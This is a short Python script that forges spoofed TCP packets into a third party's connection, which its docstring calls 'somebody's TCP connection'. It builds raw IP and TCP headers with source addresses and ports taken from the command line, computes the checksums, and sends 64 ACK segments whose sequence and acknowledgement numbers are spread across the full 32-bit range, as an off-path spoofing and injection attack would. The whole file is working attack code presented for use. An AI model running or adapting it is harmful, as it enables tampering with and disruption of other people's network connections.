# SPDX-License-Identifier: BSD-3-Clause
"""forge.py SOURCE PORT DESTINATION PORT: 64 segments of somebody's TCP connection, their numbers all over."""

import socket
import struct
import sys

source, destination = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[3])
ports = int(sys.argv[2]), int(sys.argv[4])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # the kernel sums the IP header
for n in range(64):
    tcp = bytearray(struct.pack("!HHIIBBHHH", *ports, n << 26, n << 26, 5 << 4, 0x10, 1000, 0, 0))
    struct.pack_into("!H", tcp, 16, checksum(source + destination + struct.pack("!HH", 6, len(tcp)) + tcp))
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), n, 0, 64, 6, 0) + source + destination
    wire.sendto(ip + tcp, (sys.argv[3], 0))
